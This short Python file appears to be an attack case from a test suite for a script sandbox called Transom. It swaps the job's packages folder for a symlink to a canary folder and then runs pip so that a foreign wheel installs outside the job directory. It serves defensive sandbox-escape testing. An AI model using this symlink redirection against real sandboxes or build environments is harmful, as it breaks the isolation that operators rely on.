"""Lets its folder of packages lead outside, then has Transom install something into it."""

import os
import subprocess
import sys

from attack import BAIT, attack, job_folder


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = os.path.join(job_folder(), "packages")
    os.unlink(place)
    os.symlink(BAIT["canary_folder"], place)
    wheel = os.path.join("Script Bundle", os.path.basename(BAIT["foreign_wheel"]))
    subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", wheel])
    return ""
